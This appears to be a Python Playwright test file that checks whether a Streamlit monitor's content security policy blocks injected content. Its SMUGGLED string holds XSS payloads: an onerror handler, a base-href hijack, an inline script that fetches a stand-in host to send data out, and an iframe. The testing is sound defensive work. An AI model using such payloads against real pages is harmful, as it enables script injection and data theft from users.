"""Nothing that somebody smuggled into a page runs or leaves the machine, and every page works under that policy."""

import socketserver
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

from playwright.sync_api import Browser, Page

from pages.parts.frame import PAGES
from tests import serving
from tests.end_to_end.reading import choose_page, main_text, open_page, read_as
from vocabulary.text import LANGUAGES, Text

OFFICE = Text("International Strategy Office", "国際戦略室")

# What a title could do if it were shown as HTML with scripts, which no page of the monitor does: run one in the page,
# fetch a picture from elsewhere, send what it finds to elsewhere, be framed, change where links lead.
SMUGGLED = '''
import streamlit as st

st.markdown("![](http://127.0.0.1:{port}/picture.png)")
st.html(
    """<img src="x" onerror="window.ran = 'attribute'"><base href="http://127.0.0.1:{port}/">
    <script>window.ran = "script"; fetch("http://127.0.0.1:{port}/sent")</script>
    <iframe src="http://127.0.0.1:{port}/frame"></iframe>""",
    unsafe_allow_javascript=True,
)
st.markdown("all of it is there")
'''


@contextmanager
def elsewhere() -> Iterator[tuple[int, list[str]]]:
    """A server of somebody else: its port, and the paths that it was asked for."""
    asked: list[str] = []

    class Handler(socketserver.StreamRequestHandler):
        def handle(self) -> None:
            asked.append(self.rfile.readline().decode().split(" ")[1])
            self.wfile.write(b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")

    with socketserver.ThreadingTCPServer(("127.0.0.1", 0), Handler) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield server.server_address[1], asked
        server.shutdown()


def smuggled(browser: Browser, folder: Path, *switches: str) -> tuple[object, list[str]]:
    """What of the smuggled page ran, and what was asked for elsewhere."""
    with elsewhere() as (port, asked):
        (folder / "static").mkdir()
        script = folder / "script.py"
        script.write_text(SMUGGLED.replace("{port}", str(port)))
        with serving.guarded(script, folder, *switches) as server:
            page = browser.new_page()
            page.goto(server.address)
            page.get_by_text("all of it is there").wait_for()
            page.wait_for_load_state("networkidle")
            ran = page.evaluate("window.ran")
            page.close()
        return ran, sorted(asked)


def test_what_was_smuggled_into_a_page_does_nothing(browser: Browser, tmp_path: Path) -> None:
    assert smuggled(browser, tmp_path) == (None, [])


def test_it_does_all_that_it_wants_where_the_policy_is_left_out(browser: Browser, tmp_path: Path) -> None:
    ran, asked = smuggled(browser, tmp_path, "--no-policy")
    assert ran is not None
    assert {"/picture.png", "/sent"} <= set(asked)


def test_no_other_site_frames_the_monitor(browser: Browser, served: str, tmp_path: Path) -> None:
    page = browser.new_page()
    page.set_content(f'<iframe src="{served}"></iframe>')
    page.wait_for_load_state("networkidle")
    assert "stApp" not in page.frames[1].content()
    page.close()


def test_every_page_is_drawn_under_the_policy(page: Page) -> None:
    """A page fails on whatever the console calls an error, such as a breach of the policy.

    The Strategy Office goes through the navigation: every second page in the other language.
    """
    for n, language in enumerate(LANGUAGES):
        open_page(page, language=language)
        read_as(page, OFFICE, language)
        for code in list(PAGES)[n :: len(LANGUAGES)]:
            choose_page(page, code, language)
            assert main_text(page), code
